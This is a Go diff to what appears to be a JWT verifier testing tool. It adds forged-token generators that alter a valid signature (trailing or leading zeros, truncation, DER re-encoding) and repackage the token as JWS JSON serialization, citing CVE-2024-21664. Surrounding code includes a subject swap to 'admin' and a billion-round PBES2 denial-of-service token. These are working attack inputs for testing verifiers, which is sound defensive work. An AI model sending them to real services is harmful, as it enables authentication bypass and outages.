@@ -4,6 +4,7 @@ import (
 	"context"
 	"crypto/x509"
 	"crypto/x509/pkix"
+	"encoding/asn1"
 	"encoding/base64"
 	"fmt"
 	"math/big"
@@ -34,6 +35,19 @@ func forgedAttacks() []Attack {
 		}),
 		forged("token-signature", "the good token with another signature", "ATTACKS J7", func(j jwt, _ *Target) []string {
 			return []string{j.parts[0] + "." + j.parts[1] + "." + flipped(j.parts[2])}
+		}),
+		forged("token-signature-form", "the good signature in another form: zeros behind it, DER, half of it", "ATTACKS J7", func(j jwt, _ *Target) []string {
+			signature, _ := base64.RawURLEncoding.DecodeString(j.parts[2])
+			half := len(signature) / 2
+			forms := [][]byte{append(signature[:len(signature):len(signature)], 0), append(make([]byte, 1), signature...), signature[:half]}
+			if der, err := asn1.Marshal([]*big.Int{new(big.Int).SetBytes(signature[:half]), new(big.Int).SetBytes(signature[half:])}); err == nil {
+				forms = append(forms, der)
+			}
+			var tokens []string
+			for _, f := range forms {
+				tokens = append(tokens, j.parts[0]+"."+j.parts[1]+"."+base64url(f))
+			}
+			return tokens
 		}),
 		forged("token-payload", "another subject under the good signature", "ATTACKS J7", func(j jwt, _ *Target) []string {
 			return []string{j.parts[0] + "." + j.claims.with(members{"sub": "admin"}).segment() + "." + j.parts[2]}
@@ -85,6 +99,11 @@ func forgedAttacks() []Attack {
 		lesser(Medium, forged("token-encrypted", "an encrypted token with a billion rounds of PBES2", "CVE-2023-49290", func(j jwt, _ *Target) []string {
 			header := members{"alg": "PBES2-HS256+A128KW", "enc": "A128GCM", "p2c": 1_000_000_000, "p2s": "AAAAAAAAAAA", "zip": "DEF"}
 			return []string{header.segment() + ".AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA.AAAAAAAAAAAAAAAA.AAAA.AAAAAAAAAAAAAAAAAAAAAA"}
+		})),
+		lesser(Medium, forged("token-json", "the good token in the JSON serialization of JWS", "CVE-2024-21664", func(j jwt, _ *Target) []string {
+			flat := members{"payload": j.parts[1], "protected": j.parts[0], "signature": j.parts[2]}
+			general := members{"payload": j.parts[1], "signatures": []members{{"protected": j.parts[0], "signature": j.parts[2]}}}
+			return []string{string(flat.bytes()), string(general.bytes())}
 		})),
 		lesser(Medium, forged("token-padded", "the good token in another spelling: padding, blanks inside", "ATTACKS J11", func(j jwt, _ *Target) []string {
 			whole := strings.Join(j.parts[:], ".")
